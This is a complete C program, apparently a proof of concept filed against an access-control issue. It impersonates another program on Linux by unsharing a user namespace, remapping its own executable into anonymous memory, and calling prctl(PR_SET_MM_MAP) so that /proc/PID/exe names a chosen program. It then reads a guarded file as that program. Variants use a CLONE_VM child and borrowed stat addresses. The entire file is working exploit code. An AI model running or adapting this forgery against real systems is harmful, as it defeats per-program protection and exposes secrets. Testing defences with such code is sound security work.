/* An attack on per-program access (issue 17): a process of the user makes /proc/PID/exe name
 * another program, then reads a guarded item as that program.
 *
 *   forge_exe [--sharer] [--layout STATFILE] PROGRAM FILE
 *
 * It unshares a user namespace, where it holds CAP_CHECKPOINT_RESTORE; moves every mapping of
 * its own executable into anonymous memory at the same address (mremap over it, so the code
 * runs on unchanged); and then sets PROGRAM as its mm's executable with
 * prctl(PR_SET_MM, PR_SET_MM_MAP, ... exe_fd). /proc/PID/exe now names PROGRAM, by device,
 * inode, size, mtime and content. It then reads FILE and copies it to stdout.
 *
 * --sharer: a child that shares the process's memory (clone CLONE_VM, not a thread) does the
 * unshare, the remapping and the prctl, and exits; the process itself stays in its user
 * namespace, and its /proc/PID/exe names PROGRAM all the same (the executable is the shared
 * memory's).
 *
 * --layout: the code, stack, brk, argv and environ addresses set with it are those STATFILE
 * records (a /proc/PID/stat text: of the image that exec'd this one), not its own.
 *
 * Exit: 0 FILE was read; 1 FILE could not be opened or read (the errno on stderr); 2 the
 * forgery itself failed (stderr says which step). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

struct region { unsigned long start, end; int prot; };
static struct region regions[64];
static int count;
static const char *program;
static const char *layout;

static int die(const char *step) {
    fprintf(stderr, "forge_exe: %s: %s\n", step, strerror(errno));
    return 2;
}

/* Field `n` (1-based, as in proc(5)) of /proc/self/stat. */
static unsigned long stat_field(const char *text, int n) {
    const char *p = strrchr(text, ')');
    int field = 2;
    while (p && field < n) {
        p = strchr(p + 1, ' ');
        field++;
    }
    return p ? strtoul(p + 1, NULL, 10) : 0;
}

/* The unshare, the remapping and the prctl, in the process or in a child sharing its memory. */
static int forge(void *unused) {
    (void)unused;
    ssize_t n;
    if (unshare(CLONE_NEWUSER) != 0) return die("unshare(CLONE_NEWUSER)");

    for (int i = 0; i < count; i++) {
        size_t len = regions[i].end - regions[i].start;
        void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED) return die("mmap");
        if (regions[i].prot & PROT_READ) memcpy(copy, (void *)regions[i].start, len);
        if (mprotect(copy, len, regions[i].prot) != 0) return die("mprotect");
        /* Our code runs on in the copy: the same bytes at the same address. */
        if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)regions[i].start) == MAP_FAILED) return die("mremap");
    }

    char stat_text[2048];
    int fd = open(layout ? layout : "/proc/self/stat", O_RDONLY);
    if (fd < 0) return die(layout ? layout : "/proc/self/stat");
    n = read(fd, stat_text, sizeof stat_text - 1);
    close(fd);
    if (n <= 0) return die("read /proc/self/stat");
    stat_text[n] = 0;

    int exe = open(program, O_RDONLY | O_CLOEXEC);
    if (exe < 0) return die(program);
    struct prctl_mm_map map = {
        .start_code = stat_field(stat_text, 26), .end_code = stat_field(stat_text, 27),
        .start_stack = stat_field(stat_text, 28),
        .start_data = stat_field(stat_text, 45), .end_data = stat_field(stat_text, 46),
        .start_brk = stat_field(stat_text, 47), .brk = layout ? stat_field(stat_text, 47) : (unsigned long)sbrk(0),
        .arg_start = stat_field(stat_text, 48), .arg_end = stat_field(stat_text, 49),
        .env_start = stat_field(stat_text, 50), .env_end = stat_field(stat_text, 51),
        .auxv = NULL, .auxv_size = 0, .exe_fd = (unsigned)exe,
    };
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) return die("prctl(PR_SET_MM_MAP)");
    close(exe);
    return 0;
}

int main(int argc, char **argv) {
    int sharer = argc > 1 && strcmp(argv[1], "--sharer") == 0;
    argv += sharer;
    argc -= sharer;
    if (argc > 2 && strcmp(argv[1], "--layout") == 0) {
        layout = argv[2];
        argv += 2;
        argc -= 2;
    }
    if (argc != 3) {
        fprintf(stderr, "usage: forge_exe [--sharer] [--layout STATFILE] PROGRAM FILE\n");
        return 2;
    }
    program = argv[1];
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) return die("readlink /proc/self/exe");
    self[n] = 0;

    /* Every mapping of our own file, read before any is changed. */
    FILE *maps = fopen("/proc/self/maps", "r");
    if (!maps) return die("/proc/self/maps");
    char line[4600];
    while (fgets(line, sizeof line, maps) && count < 64) {
        unsigned long start, end;
        char perms[8];
        int path_at = 0;
        if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %n", &start, &end, perms, &path_at) < 3 || path_at == 0) continue;
        char *path = line + path_at;
        path[strcspn(path, "\n")] = 0;
        if (strcmp(path, self) != 0) continue;
        regions[count].start = start;
        regions[count].end = end;
        regions[count].prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) | (perms[2] == 'x' ? PROT_EXEC : 0);
        count++;
    }
    fclose(maps);
    if (count == 0) { errno = ENOENT; return die("no mapping of our executable"); }

    if (sharer) {
        static char stack[1 << 16];
        pid_t child = clone(forge, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
        if (child < 0) return die("clone(CLONE_VM)");
        int status;
        if (waitpid(child, &status, 0) != child) return die("waitpid");
        if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) return 2;
    } else {
        int r = forge(NULL);
        if (r != 0) return r;
    }
    n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) return die("readlink /proc/self/exe");
    self[n] = 0;
    fprintf(stderr, "forge_exe: /proc/self/exe now names %s\n", self);

    int item = open(argv[2], O_RDONLY);
    if (item < 0) {
        fprintf(stderr, "forge_exe: open %s: %s\n", argv[2], strerror(errno));
        return 1;
    }
    char buffer[4096];
    while ((n = read(item, buffer, sizeof buffer)) > 0) {
        if (write(1, buffer, (size_t)n) != n) return 1;
    }
    if (n < 0) {
        fprintf(stderr, "forge_exe: read %s: %s\n", argv[2], strerror(errno));
        return 1;
    }
    return 0;
}
